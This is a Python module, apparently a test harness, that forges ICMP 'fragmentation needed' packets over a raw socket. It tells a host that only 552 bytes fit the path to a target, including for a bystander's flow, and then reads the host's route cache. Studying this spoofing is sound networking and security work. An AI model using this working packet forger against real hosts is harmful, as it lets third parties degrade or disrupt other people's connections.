# SPDX-License-Identifier: BSD-3-Clause
"""Who lies about what fits the way: an ICMP "fragmentation needed", quoting a datagram that a host may have sent.

As a program: forged.py FROM PORT TO PORT MTU sends it to FROM; the datagram that it quotes went from FROM to TO.
forged.py FROM PORT has an ordinary socket there, says "up", and ends when its standard input does."""

from __future__ import annotations

import socket
import struct
import subprocess
import sys
from collections.abc import Sequence

BYSTANDER_PORT = 5555
MTU = 552  # the least that Linux believes


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total ^ 0xFFFF


def fragmentation_needed(source: str, port: int, target: str, target_port: int, mtu: int) -> bytes:
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 1500, 1, 0x4000, 1, 17, 0,
                         socket.inet_aton(source), socket.inet_aton(target))  # fmt: skip
    quoted = header + struct.pack(">HHHH", port, target_port, 1480, 0)
    body = struct.pack(">BBHHH", 3, 4, 0, 0, mtu) + quoted
    return body[:2] + struct.pack(">H", _checksum(body)) + body[4:]


def lie(liar: Sequence[str], victim: Sequence[str], source: str, target: str, flows: Sequence[tuple[int, int]]) -> str:
    """Tells the host `source`, from another one, that nothing longer than MTU fits the way to `target`: of these flows
    (its port, the target's), and of one of a bystander, a socket as anybody has. What the host then believes."""
    with subprocess.Popen(
        [*victim, sys.executable, __file__, source, str(BYSTANDER_PORT)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
    ) as bystander:  # fmt: skip
        assert bystander.stdout and bystander.stdout.readline() == "up\n"
        for port, target_port in [*flows, (BYSTANDER_PORT, BYSTANDER_PORT)]:
            words = [source, str(port), target, str(target_port), str(MTU)]
            subprocess.run([*liar, sys.executable, __file__, *words], check=True)
        bystander.communicate()
    route = ["ip", "route", "get", target]
    return subprocess.run([*victim, *route], capture_output=True, text=True, check=True).stdout


def main(words: list[str]) -> None:
    if len(words) == 2:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as bystander:
            bystander.bind((words[0], int(words[1])))
            print("up", flush=True)
            sys.stdin.read()
        return
    source, port, target, target_port, mtu = words
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as raw:
        raw.sendto(fragmentation_needed(source, int(port), target, int(target_port), int(mtu)), (source, 0))


if __name__ == "__main__":
    main(sys.argv[1:])
